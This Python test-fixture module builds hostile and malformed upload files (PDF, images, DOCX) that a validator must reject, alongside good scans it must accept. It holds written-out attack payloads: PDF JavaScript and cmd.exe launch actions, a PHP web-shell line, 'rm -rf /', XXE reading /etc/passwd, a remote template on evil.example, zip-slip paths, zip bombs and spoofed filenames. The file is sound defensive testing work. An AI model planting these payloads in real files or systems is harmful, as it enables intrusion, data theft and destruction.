"""A corpus of files as somebody hostile, or a broken scanner, sends them: made here, never kept.

``corpus()`` yields (class, name, bytes); every one of them must be refused. ``good()`` yields files that must
be taken.
"""

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

File = tuple[str, str, bytes]
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RLO, LRO, ZWJ = "\u202e", "\u202d", "\u200d"


def png(
    width: int = 20, height: int = 20, *, more: tuple[tuple[bytes, bytes], ...] = (), tail: bytes = b""
) -> bytes:
    """A picture of one colour; ``more`` are chunks before its end."""
    rows = b"".join(b"\x00" + b"\xff" * width for _ in range(min(height, 40)))
    chunks = [
        (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)),
        *more,
        (b"IDAT", zlib.compress(rows)),
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(*one) for one in [*chunks, (b"IEND", b"")]) + tail


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def jpeg(width: int = 20, height: int = 20, *, comment: bytes = b"", tail: bytes = b"") -> bytes:
    """The segments of a picture in their order; its scan holds nothing a viewer could draw."""
    out = b"\xff\xd8\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    if comment:
        out += b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    out += b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    out += b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00" + b"\x11" * 200
    return out + b"\xff\xd9" + tail


def tiff(
    width: int = 20, height: int = 20, *, order: str = "<", following: int = 0, far: bool = False
) -> bytes:
    """One page of a fax; ``following`` points to the next page, ``far`` a tag outside the file."""
    mark = b"II*\x00" if order == "<" else b"MM\x00*"
    tags = [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (259, 3, 1, 1),
        (273, 4, 5_000 if far else 1, 8),
        (279, 4, 1, 4),
    ]
    body = struct.pack(order + "H", len(tags))
    for tag, kind, amount, value in tags:
        packed = struct.pack(order + ("HH" if kind == 3 else "I"), *((value, 0) if kind == 3 else (value,)))
        body += struct.pack(order + "HHI", tag, kind, amount) + packed
    return mark + struct.pack(order + "I", 12) + b"\x00" * 4 + body + struct.pack(order + "I", following)


def pdf(change: Callable[[Any], None] = lambda _: None, **how: Any) -> bytes:
    """A PDF of one page, changed before it is saved."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    change(made)
    out = BytesIO()
    made.save(out, deterministic_id="encryption" not in how, **how)
    return out.getvalue()


def word(parts: dict[str, bytes] | None = None, *, without: str = "", tail: bytes = b"") -> bytes:
    """A small .docx with further parts."""
    all_parts = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="t"/>',
        "word/document.xml": "<w:document>Quyết định</w:document>".encode(),
        **(parts or {}),
    }
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in all_parts.items():
            if name != without:
                archive.writestr(name, data)
    return out.getvalue() + tail


def good() -> Iterator[tuple[str, bytes]]:
    """Scans as offices make them."""
    yield "bien-ban.pdf", pdf()
    yield "Biên bản xác minh 12.PDF", pdf(lambda p: [p.add_blank_page() for _ in range(30)])
    yield "lien-ket.pdf", pdf(_link)
    yield "anh.jpg", jpeg(1_654, 2_339)
    yield "ảnh.JPEG", jpeg(comment=b"Canon LiDE")
    yield "anh.png", png(1_654, 2_339)
    yield "fax.tif", tiff(1_728, 2_200)
    yield "fax.tiff", tiff(1_728, 2_200, order=">")


def _link(made: Any) -> None:
    action = Dictionary(S=Name.URI, URI=String("https://thads.moj.gov.vn"))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    made.pages[0].Annots = made.make_indirect(Array([note]))


def corpus() -> Iterator[File]:
    """Every hostile file."""
    for make in (
        *(_javascript, _launch, _attachments, _odd_pdfs, _encrypted, _truncated, _wrong_type, _wrong_ending),
        *(_polyglots, _floods, _names, _virus, _empty, _loops, _markup, _office, _archives, _noise),
    ):
        yield from make()


def _action(made: Any, action: Any, where: str) -> None:
    if where == "open":
        made.Root.OpenAction = made.make_indirect(action)
    elif where == "page":
        made.pages[0].AA = Dictionary(O=action)
    elif where == "link":
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
        made.pages[0].Annots = Array([note])
    else:
        made.Root.Outlines = made.make_indirect(Dictionary(First=Dictionary(A=action)))


def _javascript() -> Iterator[File]:
    for where in ("open", "page", "link", "outline"):
        for name in ("JavaScript", "Rendition", "SubmitForm"):
            action = Dictionary(S=Name("/" + name), JS=String("app.alert(1)"))
            yield "javascript", f"{where}.pdf", pdf(lambda p, a=action, w=where: _action(p, a, w))
    tree = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), Dictionary(S=Name.JavaScript)])))
    yield "javascript", "names.pdf", pdf(lambda p: setattr(p.Root, "Names", tree))
    yield (
        "javascript",
        "packed.pdf",
        pdf(
            lambda p: _action(p, Dictionary(S=Name.JavaScript, JS=String("1")), "open"),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
    )


def _launch() -> Iterator[File]:
    for where in ("open", "page", "link", "outline"):
        for name in ("Launch", "GoToR", "GoToE", "ImportData"):
            action = Dictionary(S=Name("/" + name), F=String("cmd.exe"))
            yield "launch", f"{name}-{where}.pdf", pdf(lambda p, a=action, w=where: _action(p, a, w))


def _attachments() -> Iterator[File]:
    for inside in ("a.exe", "b.pdf", "c.docx"):
        yield (
            "attachment",
            inside + ".pdf",
            pdf(lambda p, n=inside: p.attachments.__setitem__(n, b"MZ" + b"0" * 99)),
        )
    yield (
        "attachment",
        "rich.pdf",
        pdf(lambda p: setattr(p.pages[0], "Annots", Array([Dictionary(RichMedia=1)]))),
    )
    yield (
        "attachment",
        "xfa.pdf",
        pdf(lambda p: setattr(p.Root, "AcroForm", Dictionary(XFA=String("<xdp/>")))),
    )
    yield (
        "attachment",
        "spec.pdf",
        pdf(lambda p: setattr(p.Root, "X", Dictionary(Type=Name.Filespec, F=String("x")))),
    )


def _odd_pdfs() -> Iterator[File]:
    whole = pdf()
    yield "broken", "no-end.pdf", whole.replace(b"%%EOF", b"")
    yield "broken", "no-xref.pdf", whole.replace(b"xref", b"xrif")
    yield "broken", "no-root.pdf", whole.replace(b"/Root", b"/Rott")
    yield "broken", "only-head.pdf", b"%PDF-1.7\n%%EOF\n"
    yield "broken", "no-pages.pdf", pdf(lambda p: p.pages.__delitem__(0))
    yield "broken", "deep.pdf", b"%PDF-1.4\n1 0 obj" + b"[" * 20_000 + b"]" * 20_000 + b"endobj\n%%EOF"


def _encrypted() -> Iterator[File]:
    for user in ("", "mat-khau"):
        for bits in (4, 6):
            how = pikepdf.Encryption(owner="chu", user=user, R=bits, aes=True)
            yield "encrypted", f"khoa-{user}-{bits}.pdf", pdf(encryption=how)
    locked = bytearray(word())
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        place = locked.find(mark)
        while place >= 0:
            locked[place + (6 if mark == b"PK\x03\x04" else 8)] |= 1
            place = locked.find(mark, place + 1)
    yield "encrypted", "khoa.docx", bytes(locked)
    yield (
        "encrypted",
        "ole.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") * 40,
    )


def _truncated() -> Iterator[File]:
    for name, whole in good():
        for share in (0.3, 0.9):
            yield "truncated", name, whole[: max(int(len(whole) * share), 9)]
    for share in (0.2, 0.5, 0.95):
        yield "truncated", "mau.docx", word()[: int(len(word()) * share)]


def _wrong_type() -> Iterator[File]:
    for ending in ("pdf", "jpg", "png", "tif"):
        yield "wrong type", f"a.{ending}", b"MZ\x90\x00" + b"\x00" * 300
        yield "wrong type", f"b.{ending}", b"\x7fELF" + b"\x00" * 300
        yield "wrong type", f"c.{ending}", b"GIF89a" + b"\x00" * 300
        yield "wrong type", f"d.{ending}", b"#!/bin/sh\nrm -rf /\n"
        yield "wrong type", f"e.{ending}", b"Rar!\x1a\x07\x00" + b"\x00" * 300


def _wrong_ending() -> Iterator[File]:
    for name, whole in good():
        stem = name.rpartition(".")[0]
        yield "wrong ending", f"{stem}.exe", whole
        yield "wrong ending", f"{stem}", whole
        wrong = "pdf" if not whole.startswith(b"%PDF") else "png"
        yield "wrong ending", f"{stem}.{wrong}", whole


def _polyglots() -> Iterator[File]:
    archive = word({"a.exe": b"MZ"})
    yield "polyglot", "zip.pdf", pdf() + archive
    yield "polyglot", "zip.jpg", jpeg(tail=archive)
    yield "polyglot", "zip.png", png(tail=archive)
    yield "polyglot", "zip.tif", tiff() + archive
    yield "polyglot", "html.jpg", jpeg(comment=b"<script>alert(1)</script>")
    yield "polyglot", "html.png", png(more=((b"tEXt", b"Title\x00<html><script>1</script>"),))
    yield "polyglot", "php.jpg", jpeg(comment=b"<?php system($_GET[1]); ?>")
    yield "polyglot", "pdf.jpg", jpeg(comment=b"%PDF-1.7")
    yield "polyglot", "pdf.png", png(tail=pdf())
    yield "polyglot", "tail.jpg", jpeg(tail=b"MZ" + b"A" * 500)
    yield "polyglot", "tail.pdf", pdf() + b"<html><script>alert(1)</script>"
    yield "polyglot", "head.pdf", b"MZ\x90" + pdf()
    yield "polyglot", "svg.tif", tiff() + b"<svg onload=alert(1)>"


def _floods() -> Iterator[File]:
    for side in (20_000, 65_000):
        yield "pixel flood", f"{side}.png", png(side, side)
        yield "pixel flood", f"{side}.jpg", jpeg(side, side)
        yield "pixel flood", f"{side}.tif", tiff(side, side)
    yield "pixel flood", "0.png", png(0, 5)
    yield "pixel flood", "huge.pdf", pdf(_huge_image)
    yield (
        "pixel flood",
        "page.pdf",
        pdf(lambda p: setattr(p.pages[0], "MediaBox", Array([0, 0, 9_000_000, 5]))),
    )
    yield "pixel flood", "pages.pdf", pdf(lambda p: [p.pages.append(p.pages[0]) for _ in range(3_100)])


def _huge_image(made: Any) -> None:
    image = Stream(made, b"\x00", Type=Name.XObject, Subtype=Name.Image, Width=60_000, Height=60_000)
    made.Root.Hidden = made.make_indirect(image)


def _names() -> Iterator[File]:
    for name in (
        f"anh{RLO}gpj.exe",
        f"{LRO}fdp.scr",
        "a.pdf.exe",
        "a.pdf\x00.exe",
        "a.pdf ",
        "CON",
        f"a.p{ZWJ}df.com",
    ):
        yield "names", name, b"MZ" + b"\x00" * 99
    yield "names", f"bien-ban{RLO}gpj.exe", jpeg()
    yield "names", "../../etc/cron.d/x", pdf()
    yield "names", "a" * 4_000, pdf()


def _virus() -> Iterator[File]:
    yield "eicar", "eicar.pdf", pdf(lambda p: setattr(p.Root, "X", Stream(p, EICAR)), compress_streams=False)
    yield "eicar", "eicar.com", EICAR
    yield "eicar", "eicar.jpg", jpeg(comment=EICAR)
    yield "eicar", "eicar.png", png(more=((b"tEXt", b"A\x00" + EICAR),))
    yield "eicar", "eicar.tif", tiff() + EICAR


def _empty() -> Iterator[File]:
    for ending in ("pdf", "jpg", "png", "tif", "docx"):
        yield "empty", f"a.{ending}", b""
    yield "empty", "blank.pdf", b" " * 500


def _loops() -> Iterator[File]:
    yield "loops", "page.tif", tiff(following=12)
    yield "loops", "far.tif", tiff(far=True)
    yield "loops", "next.tif", tiff(following=4_000_000)
    yield "loops", "order.png", b"\x89PNG\r\n\x1a\n" + _chunk(b"IDAT", b"") + _chunk(b"IEND", b"")
    yield "loops", "sum.png", png().replace(b"IDAT", b"IDBT")
    yield "loops", "long.png", b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 2**31) + b"IHDR" + b"\x00" * 99
    yield "loops", "segment.jpg", b"\xff\xd8\xff\xe0\x00\x00" + b"\x00" * 99
    yield "loops", "frame.jpg", b"\xff\xd8\xff\xda\x00\x08" + b"\x00" * 99 + b"\xff\xd9"


def _markup() -> Iterator[File]:
    for ending in ("svg", "html", "xml", "jpg", "pdf"):
        yield "script picture", f"a.{ending}", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
        yield "script picture", f"b.{ending}", b"<!DOCTYPE html><script>alert(1)</script>"


def _office() -> Iterator[File]:
    for part in (
        "word/vbaProject.bin",
        "word/activeX/activeX1.xml",
        "word/embeddings/oleObject1.bin",
        "a.exe",
        "b.zip",
    ):
        yield "macro", "mau.docx", word({part: b"x" * 50})
    linked = b'<Relationships><Relationship TargetMode="External" Target="http://evil.example/t.dotm"/></Relationships>'
    yield "macro", "xa.docx", word({"word/_rels/settings.xml.rels": linked})
    yield "macro", "kieu.docx", word({"[Content_Types].xml": b"<Types>macroEnabled.main+xml</Types>"})
    entity = b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 999 + b'"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
    yield "entity expansion", "ty-tieng-cuoi.docx", word({"word/document.xml": entity})
    outside = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    yield "external entity", "doc.docx", word({"word/document.xml": outside})
    yield "external entity", "doc2.docx", word({"word/styles.xml": outside})
    yield "wrong type", "khong-phai.docx", word(without="word/document.xml")
    yield "polyglot", "dau.docx", b"MZ" + word()
    yield "polyglot", "duoi.docx", word(tail=b"MZ" + b"0" * 99)


def _archives() -> Iterator[File]:
    yield "zip bomb", "bom.docx", word({"word/media/a.xml": b"\x00" * 30_000_000})
    yield "zip bomb", "bom2.docx", word({f"word/media/{n}.png": b"\x00" * 9_000_000 for n in range(6)})
    yield "nested archive", "long.docx", word({"word/embeddings/a.zip": word()})
    yield "nested archive", "long2.docx", word({"customXml/inner.docm": word()})
    yield "many entries", "nhieu.docx", word({f"x/{n}": b"" for n in range(100_000)})
    for name in ("../../etc/passwd", "/etc/passwd", "..\\..\\windows\\a.xml", "C:/a.xml", "word/../../b.xml"):
        yield "zip slip", "truot.docx", word({name: b"x"})
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", b"<x/>")
        link = zipfile.ZipInfo("word/media/link.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, b"/etc/passwd")
    yield "symlink", "lien-ket.docx", out.getvalue()
    yield "overlapping", "chong.docx", _overlapping()
    yield "overlapping", "trung.docx", word({"WORD/DOCUMENT.XML": b"<x/>"})
    for name in ("a.pdf", "b.jpg", "c.png", "d.tif"):
        yield "zip bomb", name, word({"x": b"\x00" * 9_000_000})


def _overlapping() -> bytes:
    """Two names of the directory for one and the same packed part."""
    made = bytearray(word({"word/a.xml": b"<a/>", "word/b.xml": b"<a/>"}))
    places = []
    place = made.find(b"PK\x01\x02")
    while place >= 0:
        places.append(place)
        place = made.find(b"PK\x01\x02", place + 4)
    made[places[-1] + 42 : places[-1] + 46] = made[places[-2] + 42 : places[-2] + 46]
    return bytes(made)


def _noise() -> Iterator[File]:
    """Right first bytes, then nothing that means anything."""
    state = 1
    for ending, head in (
        ("pdf", b"%PDF-1.7\n"),
        ("jpg", b"\xff\xd8\xff\xe0"),
        ("png", b"\x89PNG\r\n\x1a\n"),
        ("tif", b"II*\x00"),
        ("docx", b"PK\x03\x04"),
    ):
        for size in (30, 5_000, 200_000):
            noise = bytearray()
            while len(noise) < size:
                state = (state * 6364136223846793005 + 1442695040888963407) % 2**64
                noise += struct.pack(">Q", state)
            yield "noise", f"nhieu-{size}.{ending}", head + bytes(noise[:size])
